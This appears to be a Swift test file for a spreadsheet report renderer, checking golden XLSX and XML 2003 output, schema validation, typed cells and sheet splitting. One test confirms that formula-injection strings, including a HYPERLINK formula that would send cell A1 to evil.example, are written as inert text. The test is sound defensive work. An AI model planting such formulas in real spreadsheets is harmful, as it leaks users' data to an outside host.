import Foundation
import Testing
import ZIPFoundation

@testable import SeatSweepKit

/// report.xlsx and report.xml: golden parts for the sample, libxml2 schema validation of every
/// part (sample, hostile names, priced and redacted, split sheets), typed cells, no formulas.
@Suite struct SpreadsheetRendererTests {
    static let goldenParts: [(path: String, golden: String)] = [
        ("[Content_Types].xml", "xlsx-directory-content-types.xml"), ("_rels/.rels", "xlsx-directory-rels.xml"),
        ("xl/workbook.xml", "xlsx-directory-workbook.xml"),
        ("xl/_rels/workbook.xml.rels", "xlsx-directory-workbook-rels.xml"),
        ("xl/styles.xml", "xlsx-directory-styles.xml"),
        ("xl/worksheets/sheet1.xml", "xlsx-directory-sheet1-summary.xml"),
        ("xl/worksheets/sheet2.xml", "xlsx-directory-sheet2-candidates.xml"),
        ("xl/worksheets/sheet3.xml", "xlsx-directory-sheet3-seats.xml"),
        ("xl/worksheets/sheet4.xml", "xlsx-directory-sheet4-protected.xml"),
    ]

    @Test func goldenXLSXParts() throws {
        let entries = try ReportFixtures.xlsxEntries(ReportDocument(try ReportFixtures.sample()))
        #expect(Set(entries.keys) == Set(Self.goldenParts.map(\.path)))
        for (path, golden) in Self.goldenParts {
            try TestSupport.assertGolden(try #require(entries[path]), golden)
        }
    }

    @Test func golden2003() throws {
        try TestSupport.assertGolden(
            try ReportFixtures.xml2003(ReportDocument(try ReportFixtures.sample())), "report-directory.xml")
    }

    /// The archive (each part deflated through a spool) holds exactly the bytes a single
    /// in-memory pass makes, as ZIPFoundation reads them back (checking each CRC-32).
    @Test func streamedPartsEqualInMemoryParts() throws {
        let document = ReportDocument(try ReportFixtures.hostile())
        let entries = try ReportFixtures.xlsxEntries(document, maxRowsPerSheet: 5)
        let parts = try XLSXRenderer.partBytes(document, maxRowsPerSheet: 5)
        #expect(entries.count == parts.count)
        for part in parts { #expect(entries[part.path] == part.bytes, "\(part.path)") }
    }

    static func documents() throws -> [(String, ReportDocument, Int)] {
        [
            ("sample", ReportDocument(try ReportFixtures.sample()), ReportTable.excelMaxRows),
            ("hostile", ReportDocument(try ReportFixtures.hostile()), ReportTable.excelMaxRows),
            (
                "priced+redacted",
                ReportDocument(try ReportFixtures.pricedSample(), options: .init(redactor: Redactor(salt: "s"))),
                ReportTable.excelMaxRows
            ),
            ("split", ReportDocument(try ReportFixtures.hostile()), 4),
        ]
    }

    @Test func everyPartValidates() throws {
        for (name, document, maxRows) in try Self.documents() {
            for (path, bytes) in try ReportFixtures.xlsxEntries(document, maxRowsPerSheet: maxRows) {
                let problems = SchemaValidator.validate(bytes, schema: SchemaValidator.schema(forPart: path))
                #expect(problems.isEmpty, "\(name) \(path): \(problems.prefix(5))")
            }
            let xml = try ReportFixtures.xml2003(document, maxRowsPerSheet: maxRows)
            let problems = SchemaValidator.validate(xml, schema: "spreadsheet2003-subset.xsd")
            #expect(problems.isEmpty, "\(name) report.xml: \(problems.prefix(5))")
        }
    }

    /// Large sheets of report.xml and report.xlsx are written in blocks of rows on two threads,
    /// each block into a fragment writer of its own: the files hold byte for byte what one
    /// thread writes, hostile text (escaped by libxml2 inside the fragment) included, with
    /// blocks of any size.
    @Test func rowsWrittenInBlocksAreTheSameBytes() throws {
        for (name, document, maxRows) in try Self.documents() {
            var one: [UInt8] = []
            try SpreadsheetML2003Renderer.render(document, maxRowsPerSheet: maxRows, parallelRows: .max) { one += $0 }
            #expect(!ReportFixtures.string(one).contains("fragment"))
            let parts = try XLSXRenderer.partBytes(document, maxRowsPerSheet: maxRows)
            for blockRows in [1, 2, 3, 1000] {
                var blocks: [UInt8] = []
                try SpreadsheetML2003Renderer.render(
                    document, maxRowsPerSheet: maxRows, parallelRows: 2, blockRows: blockRows
                ) { blocks += $0 }
                #expect(blocks == one, "\(name) report.xml, blocks of \(blockRows)")
                var archive: [UInt8] = []
                try XLSXRenderer.render(
                    document, maxRowsPerSheet: maxRows, parallelRows: 2, blockRows: blockRows
                ) { archive += $0 }
                let entries = try ReportFixtures.entries(try Archive(data: Data(archive), accessMode: .read))
                #expect(entries.count == parts.count)
                for part in parts {
                    #expect(entries[part.path] == part.bytes, "\(name) \(part.path), blocks of \(blockRows)")
                }
            }
        }
    }

    /// The schemas can fail: a formula, a shared string, a row past Excel's limit, a long sheet name.
    @Test(arguments: [
        #"<c r="A1"><f>1+1</f></c>"#, #"<c r="A1" t="s"><v>0</v></c>"#, #"<c r="A1" t="str"><v>x</v></c>"#,
    ])
    func worksheetSchemaRejects(cell: String) {
        let sheet =
            #"<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1"/>"#
            + #"<sheetViews><sheetView workbookViewId="0"/></sheetViews><sheetFormatPr defaultRowHeight="15"/>"#
            + #"<sheetData><row r="1">\#(cell)</row></sheetData></worksheet>"#
        #expect(!SchemaValidator.validate(Array(sheet.utf8), schema: "sml-subset.xsd").isEmpty)
        let valid = sheet.replacingOccurrences(of: cell, with: #"<c r="A1"><v>1</v></c>"#)
        #expect(SchemaValidator.validate(Array(valid.utf8), schema: "sml-subset.xsd").isEmpty)
        let tooMany = valid.replacingOccurrences(of: #"<row r="1">"#, with: #"<row r="1048577">"#)
        #expect(!SchemaValidator.validate(Array(tooMany.utf8), schema: "sml-subset.xsd").isEmpty)
    }

    @Test func schema2003RejectsFormulas() throws {
        let xml = ReportFixtures.string(try ReportFixtures.xml2003(ReportDocument(try ReportFixtures.sample())))
        let formula = xml.replacingOccurrences(
            of: #"<Cell><Data ss:Type="String">Audit date</Data>"#,
            with: #"<Cell ss:Formula="=1+1"><Data ss:Type="Number">2</Data>"#)
        #expect(formula != xml)
        #expect(!SchemaValidator.validate(Array(formula.utf8), schema: "spreadsheet2003-subset.xsd").isEmpty)
    }

    @Test func hostileTextIsInertInBothFiles() throws {
        let document = ReportDocument(try ReportFixtures.hostile())
        let entries = try ReportFixtures.xlsxEntries(document)
        let candidates = ReportFixtures.string(try #require(entries["xl/worksheets/sheet2.xml"]))
        let xml = ReportFixtures.string(try ReportFixtures.xml2003(document))
        for text in [candidates, xml] {
            #expect(!text.unicodeScalars.contains { $0 == "\u{07}" || $0 == "\u{202E}" || $0 == "\u{FFFE}" })
            #expect(!text.contains("<script>"))
        }
        #expect(!candidates.contains("<f>"))
        let hyperlink =
            #"t="inlineStr"><is><t>=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Click me&quot;)</t>"#
        #expect(candidates.contains(hyperlink))
        #expect(xml.contains(#"<Data ss:Type="String">@SUM(A1:A9)</Data>"#))
        #expect(xml.contains(#"<Data ss:Type="String">-10+20</Data>"#))
        #expect(!xml.contains("ss:Formula"))
        #expect(
            candidates.contains(String(repeating: "Lorem ipsum dolor sit amet consectetur adipiscing elit ", count: 10))
        )
    }

    @Test func cellsAreTyped() throws {
        let entries = try ReportFixtures.xlsxEntries(ReportDocument(try ReportFixtures.pricedSample()))
        let summary = ReportFixtures.string(try #require(entries["xl/worksheets/sheet1.xml"]))
        // 2026-11-01 as a date in B2, right after its label in A2.
        #expect(
            summary.contains(#"<row r="2"><c t="inlineStr"><is><t>Audit date</t></is></c><c s="2"><v>46327</v></c>"#))
        #expect(summary.contains(#"<c s="3"><v>51.44</v></c>"#))  // monthly savings, money
        let styles = ReportFixtures.string(try #require(entries["xl/styles.xml"]))
        #expect(styles.contains(##"formatCode="#,##0.00\ &quot;EUR&quot;""##))
        let candidates = ReportFixtures.string(try #require(entries["xl/worksheets/sheet2.xml"]))
        #expect(
            candidates.contains(
                #"<row r="1"><c s="1" t="inlineStr"><is><t>id</t></is></c><c s="1" t="inlineStr"><is><t>Decision</t></is></c>"#
            ))
        #expect(candidates.contains(#"<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>"#))
        #expect(candidates.contains(#"<autoFilter ref="A1:M9"/>"#))
        // Last active (H) as a date, then days inactive (I) as a number.
        #expect(candidates.contains(#"<c s="2"><v>46144</v></c><c s="4"><v>183</v></c>"#))
    }

    /// A cell names its column only after a gap: after the empty Decision column (B), and for a
    /// never-used seat after the empty Days inactive column (I). The others follow the one before,
    /// as `r` may be left out in SpreadsheetML.
    @Test func cellsAfterAGapNameTheirColumn() throws {
        let entries = try ReportFixtures.xlsxEntries(ReportDocument(try ReportFixtures.pricedSample()))
        let candidates = ReportFixtures.string(try #require(entries["xl/worksheets/sheet2.xml"]))
        let rows = Array(candidates.components(separatedBy: "<row ").dropFirst(2))
        #expect(rows.count == 8)
        var afterDays = 0
        for (i, row) in rows.enumerated() {
            let n = i + 2
            let references = row.components(separatedBy: #"<c r=""#).dropFirst().map {
                String($0.prefix { $0 != "\"" })
            }
            #expect(row.hasPrefix(#"r="\#(n)"><c t="inlineStr">"#), "row \(n) starts in column A")
            #expect(references.first == "C\(n)" && references.dropFirst().allSatisfy { $0 == "J\(n)" }, "\(references)")
            if references.contains("J\(n)") {
                afterDays += 1
                #expect(row.contains(#"<t>never</t></is></c><c r="J\#(n)""#), "row \(n)")
            }
        }
        #expect(afterDays > 0)
    }

    @Test func longTablesContinueOnNumberedSheets() throws {
        let document = ReportDocument(try ReportFixtures.sample())
        let entries = try ReportFixtures.xlsxEntries(document, maxRowsPerSheet: 4)
        let workbook = ReportFixtures.string(try #require(entries["xl/workbook.xml"]))
        for name in [
            "Summary", "Candidates", "Candidates 2", "Candidates 3", "Seats", "Seats 7", "Protected", "Protected 2",
        ] {
            #expect(workbook.contains(#"name="\#(name)""#), "\(name)")
        }
        #expect(!workbook.contains(#"name="Seats 8""#))
        let sheetCount = entries.keys.filter { $0.hasPrefix("xl/worksheets/") }.count
        // Summary keeps its rows on one sheet per 3 data rows too: every table splits the same way.
        let expected = [document.summary, document.candidates, document.seats, document.protected].map {
            $0.sheets(maxRows: 4).count
        }.reduce(0, +)
        #expect(sheetCount == expected)
        let xml = ReportFixtures.string(try ReportFixtures.xml2003(document, maxRowsPerSheet: 4))
        #expect(xml.contains(#"<Worksheet ss:Name="Seats 7">"#))
        #expect(
            xml.components(separatedBy: "<Row").count - 1
                == entries.filter { $0.key.hasPrefix("xl/worksheets/") }
                .map { ReportFixtures.string($0.value).components(separatedBy: "<row ").count - 1 }.reduce(0, +))
    }
}
